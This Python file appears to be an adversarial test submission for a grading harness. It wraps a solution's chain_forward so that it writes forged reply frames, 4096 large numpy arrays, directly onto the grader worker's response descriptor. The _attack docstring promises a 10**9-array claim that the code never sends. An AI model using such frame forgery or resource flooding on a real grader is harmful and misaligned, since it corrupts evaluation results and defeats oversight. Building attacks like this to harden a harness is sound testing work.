# question: forward_vs_reverse
# base: solution
# Class 9 (the grader process itself): a forged reply frame written straight onto the
# worker's response fd; see _attack's docstring.
import io
import json
import os
import struct
import sys

import numpy as np

_RESP = int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else 3


def _raw(data):
    """Bytes straight onto the worker's response fd: a frame of the attacker's making."""
    view = memoryview(data)
    while view:
        view = view[os.write(_RESP, view):]


def _npy(arr, shape=None):
    head = io.BytesIO()
    info = np.lib.format.header_data_from_array_1_0(arr)
    if shape is not None:
        info["shape"] = shape
    np.lib.format.write_array_header_1_0(head, info)
    return head.getvalue() + arr.tobytes()


def _frame(header, blobs=(), claimed=None):
    """``header``: bytes of JSON; ``claimed``: a forged outer length."""
    body = struct.pack("<Q", len(header)) + header + b"".join(struct.pack("<Q", len(b)) + b for b in blobs)
    return struct.pack("<Q", len(body) if claimed is None else claimed) + body


def _reply(value_json, blobs=(), claimed=None):
    header = b'{"msg": {"ok": true, "seconds": 0.0, "value": ' + value_json + b'}, "arrays": ' + \
        str(len(blobs)).encode() + b'}'
    return _frame(header, blobs, claimed)


def _attack():
    """4096 arrays of 64 KiB (the cap on count), then a header claiming 10**9 arrays."""
    blobs = [_npy(np.zeros(8192))] * 4096
    refs = b"[" + b", ".join(b'{"__nd__": %d}' % i for i in range(4096)) + b"]"
    _raw(_reply(refs, blobs))


_solution_chain_forward = chain_forward


def chain_forward(*args):
    out = _attack()
    return out if out is not None else _solution_chain_forward(*args)
